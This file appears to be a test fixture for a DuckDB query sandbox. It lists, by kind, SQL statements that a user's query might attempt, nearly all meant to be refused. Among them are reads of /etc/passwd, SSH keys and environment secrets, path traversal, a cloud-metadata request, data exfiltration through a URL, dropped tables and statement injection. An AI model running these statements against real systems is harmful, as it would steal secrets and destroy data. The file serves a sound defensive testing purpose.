-- What a person's query may try, one statement a line, by kind; {folder} has a warehouse,
-- another database and a secret. All are refused, but for the last kind.

-- changing tables
insert into designs values (2)
insert into designs from designs returning *
insert or replace into designs values (2)
update designs set answer = 2
delete from designs
delete from designs returning answer
truncate designs
merge into designs using (select 1 as answer) as new using (answer) when matched then delete
drop table designs
drop table if exists warehouse.main.designs cascade
drop schema main cascade
alter table designs add column more integer
alter table designs rename to others
comment on table designs is 'mine'
with new as (insert into designs values (2) returning *) from new
from (delete from designs returning *)

-- making things
create table more as select 1
create temp table more as select 1
create or replace table designs as select 3 as answer
create view more as select 1
create or replace temp view designs as select 3 as answer
create macro more() as 1
create temp macro more() as 1
create or replace temp macro designs() as table select 3
create function more() as table from read_text('/etc/passwd')
create type mood as enum ('good')
create sequence counter
create schema more
create index by_answer on designs (answer)
create secret s (type s3)
create persistent secret s (type http, bearer_token 'x')
drop secret s
select 1 into more

-- transactions and upkeep
begin transaction
commit
rollback
checkpoint
force checkpoint
vacuum
vacuum analyze designs
analyze
from checkpoint()
from checkpoint('warehouse')
from force_checkpoint()

-- writing files
copy designs to '{folder}/out.csv'
copy designs to '{folder}/warehouse.duckdb'
copy designs to '/dev/stdout'
copy designs to '/proc/self/fd/1' (format csv)
copy (select 1) to '{folder}/out.parquet' (format parquet)
copy (select 1 as a) to '{folder}/out' (format csv, partition_by (a))
copy (from designs) to '{folder}/out.json'
copy from database warehouse to other
export database '{folder}/out'
export database '{folder}/out' (format parquet)
from enable_logging(storage := 'file', storage_path := '{folder}/log')
from enable_profiling(format := 'json', save_location := '{folder}/profile.json')
select write_log('x')
select write_log('x', level := 'error')
from truncate_duckdb_logs()

-- reading files
from '{folder}/secret.csv'
from "{folder}/secret.csv"
from '/etc/passwd'
from '/proc/self/environ'
from '{folder}/*.csv'
table '{folder}/secret.csv'
describe '{folder}/secret.csv'
summarize '{folder}/secret.csv'
copy designs from '{folder}/secret.csv'
import database '{folder}/out'
from read_csv('{folder}/secret.csv')
from read_csv_auto(['{folder}/secret.csv'])
from read_csv('/etc/passwd', sep = ':', header = false)
from read_csv('{folder}/secret.csv', columns = {'word': 'varchar'})
from read_csv('/dev/stdin')
from sniff_csv('{folder}/secret.csv')
from read_text('/etc/passwd')
from read_text('/etc/hostname')
from read_text('/proc/self/cmdline')
from read_text('/proc/self/maps')
from read_text('/proc/1/environ')
from read_text('/proc/self/fd/0')
from read_text('{folder}/secret.csv')
from read_text('{folder}/../../../../../../etc/passwd')
from read_text('~/.ssh/id_rsa')
from read_text(['{folder}/secret.csv', '/etc/passwd'])
from read_blob('/proc/self/environ')
from read_blob('{folder}/other.duckdb')
from read_json('{folder}/secret.csv')
from read_json_auto('{folder}/secret.csv')
from read_json_objects('{folder}/secret.csv')
from read_json_objects_auto('{folder}/secret.csv')
from read_ndjson('{folder}/secret.csv')
from read_ndjson_auto('{folder}/secret.csv')
from read_ndjson_objects('{folder}/secret.csv')
from read_parquet('{folder}/*')
from parquet_scan('{folder}/secret.csv')
from parquet_schema('{folder}/other.duckdb')
from parquet_metadata('{folder}/secret.csv')
from parquet_file_metadata('{folder}/secret.csv')
from parquet_full_metadata('{folder}/secret.csv')
from parquet_kv_metadata('{folder}/secret.csv')
from parquet_bloom_probe('{folder}/secret.csv', 'word', 'sesame')
from read_duckdb('{folder}/other.duckdb')

-- reading the warehouse's own file, or telling where it is
from '{folder}/warehouse.duckdb'
from 'warehouse.duckdb'
from read_duckdb('{folder}/warehouse.duckdb')
from read_blob('{folder}/warehouse.duckdb')
from read_text('{folder}/warehouse.duckdb')
from read_csv('{folder}/warehouse.duckdb')
from read_csv('{folder}/warehouse.duckdb', encoding = 'latin-1')
from sniff_csv('{folder}/warehouse.duckdb')
from glob('{folder}/warehouse.duckdb')
select count(*) from glob('{folder}/ware' || 'house.duckdb')
from read_blob('warehouse.duckdb')
from read_text('{folder}/warehouse.duckdb.wal.checkpoint')

-- looking around in folders
from glob('*')
from glob('/etc/*')
from glob('{folder}/**')
select count(*) from glob('/home/*')
from designs where exists (from glob('{folder}/*'))
from read_text('{folder}/*')

-- reading files from within a query
select (select content from read_text('/etc/passwd'))
select array(select content from read_text('{folder}/secret.csv'))
with designs as (from read_text('{folder}/secret.csv')) from designs
with a as (with b as (with c as (from read_text('{folder}/secret.csv')) from c) from b) from a
with recursive a as (select 1 as n union all select length(content) from a, read_text('/etc/passwd')) from a
with a as materialized (from read_csv('{folder}/secret.csv')) from a
from designs union all select length(content) from read_text('/etc/passwd')
from designs intersect select length(content) from read_text('/etc/passwd')
from designs, lateral (from read_text('{folder}/secret.csv'))
from designs positional join read_csv('{folder}/secret.csv')
from designs left join read_csv('{folder}/secret.csv') on true
from designs semi join read_csv('{folder}/secret.csv') on true
from designs order by (select content from read_text('/etc/passwd'))
from designs limit (select length(content) from read_text('/etc/passwd'))
select case when exists (from read_text('/etc/passwd')) then 1 else 0 end
select list_transform([1], lambda x: (select max(content) from read_text('/etc/passwd')))
describe from read_csv('{folder}/secret.csv')
summarize from read_csv('{folder}/secret.csv')
from (describe from read_csv('{folder}/secret.csv'))
from (summarize '{folder}/secret.csv')
pivot '{folder}/secret.csv' on word in ('sesame') using count(*)
from (pivot read_csv('{folder}/secret.csv') on word in ('sesame') using count(*))
unpivot '{folder}/secret.csv' on columns(*)
from '{folder}/secret.csv' using sample 1
from query('from read_text(''/etc/passwd'')')
from query('select content ' || 'from read_text(''{folder}/secret.csv'')')
from query_table('/etc/passwd')
from query_table(['{folder}/secret.csv'])
from query_table('read_text(''/etc/passwd'')')
from json_execute_serialized_sql(json_serialize_sql('from read_text(''/etc/passwd'')'))
from json_execute_serialized_sql(json_serialize_sql('from duckdb_databases()'))

-- reading files in disguise
from/**/read_text/**/('{folder}/secret.csv')
from -- a comment read_text('/etc/passwd')
from "read_text"('{folder}/secret.csv')
from system.main.read_text('{folder}/secret.csv')
from "system"."main"."read_text"('{folder}/secret.csv')
FROM Read_Text(e'{folder}/secret\x2ecsv')
from read_text(e'{folder}/secret\u002ecsv')
from read_text('{folder}/s' || 'ecret.csv')
from read_text(concat('{folder}', '/', 'secret.csv'))
from read_text(chr(47) || 'etc/passwd')
from read_text(decode('\x2Fetc\x2Fpasswd'::blob))
from read_text(from_hex('2f6574632f706173737764')::varchar)
from read_text($${folder}/secret.csv$$)
from read_text($path${folder}/secret.csv$path$)
from read_text('file://{folder}/secret.csv')
from read_text('file:{folder}/secret.csv')
from read_text(U&'\002Fetc/passwd')
from read_text((select '/etc/passwd'))
from read_text(getvariable('path'))
from 'file://{folder}/secret.csv'
from 'gzip:///etc/passwd'

-- other databases
attach '{folder}/other.duckdb'
attach '{folder}/other.duckdb' as other (read_only)
attach if not exists '{folder}/other.duckdb' as other
attach or replace '{folder}/other.duckdb' as warehouse
attach '{folder}/new.duckdb' as new
attach ':memory:' as more
attach 'sqlite:{folder}/other.db' as other (type sqlite)
attach 'host=127.0.0.1' as other (type postgres)
attach 'ducklake:{folder}/lake' as lake
detach warehouse
use memory
use system
from other.designs
from other.main.designs
from '{folder}/other.duckdb'

-- the network
from 'https://example.com/x.parquet'
from 'http://169.254.169.254/latest/meta-data'
from 's3://bucket/x.parquet'
from 'gcs://bucket/x.parquet'
from 'az://container/x.parquet'
from 'hf://datasets/x/y.csv'
from read_csv('http://127.0.0.1:8501/')
from read_text('https://example.com/?' || (select max(answer) from designs))
from read_text('ftp://127.0.0.1/x')
attach 'https://example.com/x.duckdb' as other
copy designs to 'https://example.com/x.csv'
copy designs to 's3://bucket/x.parquet'

-- extensions
install httpfs
install httpfs from 'http://127.0.0.1/'
force install spatial from community
load httpfs
load '{folder}/evil.duckdb_extension'
update extensions
from read_xlsx('{folder}/x.xlsx')
from st_read('{folder}/secret.csv')
from sqlite_scan('{folder}/other.db', 'x')
from postgres_scan('', 'public', 'x')
from iceberg_scan('{folder}')
from delta_scan('{folder}')
from shellfs('ls |')

-- settings
set enable_external_access = true
set global enable_external_access = true
set lock_configuration = false
set memory_limit = '100GB'
set threads = 64
set temp_directory = '{folder}'
set home_directory = '{folder}'
set allowed_paths = ['/etc/passwd']
set allowed_directories = ['/']
set file_search_path = '/etc'
set extension_directory = '{folder}'
set allow_unsigned_extensions = true
set log_query_path = '{folder}/log'
set profiling_output = '{folder}/profile.json'
set schema = 'pg_catalog'
set variable x = 1
reset all
reset lock_configuration
pragma enable_profiling
pragma enable_external_access = true
pragma database_list
pragma memory_limit = '100GB'
pragma import_database('{folder}/out')
pragma copy_database('warehouse', 'other')
call pragma_version()
call enable_logging()
call checkpoint()
from enable_logging()
from enable_profiling()
from disable_logging()
from disable_profiling()
prepare p as select 1
execute p
deallocate p
explain from designs
explain analyze from designs
select $1
select ?
select $word

-- what tells of the machine
select path from duckdb_databases()
select path from duckdb_databases
from system.main.duckdb_databases()
FROM "DuckDB_Databases"()
from pragma_database_list
select file from pragma_database_list where seq > 0
from pg_catalog.pg_database
from duckdb_settings()
select value from duckdb_settings() where name = 'allowed_paths'
from pg_settings
from pg_catalog.pg_settings
select current_setting('allowed_paths')
select current_setting('temp_directory')
select current_setting('home_directory')
select current_setting('secret_directory')
select system.main.current_setting('allowed_paths')
select "CURRENT_SETTING"('allowed_paths')
select current_setting/**/('allowed_paths')
select ('allowed_paths').current_setting()
select hex(current_setting('allowed_paths')::varchar)
select list_transform(['allowed_paths'], lambda name: current_setting(name))
select count(*) from designs having current_setting('allowed_paths')[1] like '/%'
select columns(c -> c < current_setting('allowed_paths')::varchar) from designs
from designs order by current_setting('allowed_paths')
from designs limit length(current_setting('allowed_paths'))
with a as (from duckdb_databases()) select hex(path) from a
select (select any_value(path) from duckdb_databases())
from (pivot duckdb_settings() on name in ('allowed_paths') using first(value))
from (unpivot duckdb_databases() on path)
summarize duckdb_databases
summarize from duckdb_settings()
from query('from duckdb_databases()')
from query_table('duckdb_databases')
from query_table('duckdb_' || 'settings')
select install_path from duckdb_extensions()
from duckdb_temporary_files()
from duckdb_external_file_cache()
from duckdb_logs
from duckdb_logs_parsed('QueryLog')
from duckdb_log_contexts()
from duckdb_profiling_settings()
from pragma_platform()
from pragma_user_agent()

-- secrets and the environment
from duckdb_secrets()
from duckdb_secrets(redact = false)
from duckdb_secret_types()
from which_secret('s3://bucket', 's3')
select getenv('APP_SECRET')
select getenv('PATH')
select system.main.getenv('HOME')
select * from getenv('APP_SECRET')

-- Python around the query
from request
from connection
from relation
from limits
from sys
from os.environ
from pandas_scan(1)
from pandas_scan(140000000000000)
from arrow_scan(1, 1, 1)
from arrow_scan_dumb(1, 1, 1)
from python_map_function(designs, 1, 1)

-- several statements, and none
select 1; select 2
select 1;select 1
select 1; drop table designs
select 1; attach '{folder}/other.duckdb'; from other.designs
select ';'; copy designs to '{folder}/out.csv'
select 1; /* ; */ select 2
/* select */ drop table designs
/* /* nested */ */ drop table designs
'; drop table designs --
pivot designs on answer
/* nothing */
no sql at all
\! ls
.shell ls
.read /etc/passwd
ｓｅｌｅｃｔ 1

-- answered, with nothing of the machine
select user, current_user, session_user
select current_database(), current_schema(), current_catalog
select version()
from pragma_version()
from duckdb_memory()
from pragma_database_size()
from duckdb_variables()
from duckdb_prepared_statements()
from duckdb_connection_count()
from duckdb_views()
from information_schema.schemata
from test_all_types()
show databases
show all tables
select getvariable('path')
select parse_dirpath('/etc/passwd')
select json_serialize_sql('from read_text(''/etc/passwd'')')
